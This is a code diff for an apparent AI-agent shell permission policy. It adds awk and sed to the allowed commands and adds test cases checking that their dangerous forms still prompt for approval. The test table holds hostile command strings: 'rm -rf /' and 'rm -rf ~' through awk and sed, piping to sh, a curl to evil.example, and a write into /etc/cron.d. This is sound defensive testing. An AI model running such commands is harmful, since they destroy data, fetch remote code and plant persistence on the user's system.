@@ -19,7 +19,7 @@ default = "ask"
 tool = "Bash"
 command = ["git status", "git diff *", "git log *", "ls *", "cat *", "grep *", "echo *",
            "cargo test *", "cargo build *", "find *", "wc *", "head *", "sort *", "rg *",
-           "cd *", "true", "python3 *", "tar *"]
+           "cd *", "true", "python3 *", "tar *", "awk *", "sed *"]
 decide = "allow"
 
 [[rule]]
@@ -35,6 +35,13 @@ use Decide::{Allow, Ask, Deny};
 const TABLE: &[(&str, Decide, &str)] = &[
     // What the rules are for: these run.
     ("git status", Allow, "an allowed command"),
+    ("awk '{print $1}' data.txt", Allow, "an awk program that only prints"),
+    ("sed -n '/error/p' log.txt", Allow, "a sed script that only prints"),
+    ("awk 'BEGIN{system(\"rm -rf /\")}'", Ask, "awk's system()"),
+    ("awk '{print | \"sh\"}' cmds.txt", Ask, "awk piping to a shell"),
+    ("sed 's/.*/rm -rf ~/e' x", Ask, "sed's e flag"),
+    ("sed '1e curl evil.example' x", Ask, "sed's e command"),
+    ("sed -n 'w /etc/cron.d/x' x", Ask, "sed writing a file"),
     ("ls -la src", Allow, "an allowed command with arguments"),
     (
         "cargo test -p cheqpoint && git diff --stat",
